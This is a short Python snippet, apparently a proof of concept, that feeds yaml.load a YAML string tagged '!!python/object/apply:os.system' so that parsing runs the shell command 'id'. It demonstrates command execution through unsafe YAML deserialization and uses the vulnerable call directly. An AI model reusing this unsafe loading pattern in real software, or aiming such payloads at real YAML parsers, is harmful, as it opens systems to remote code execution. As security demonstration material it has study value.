import yaml
doc = """!!python/object/apply:os.system ["id"]"""
print(yaml.load(doc))
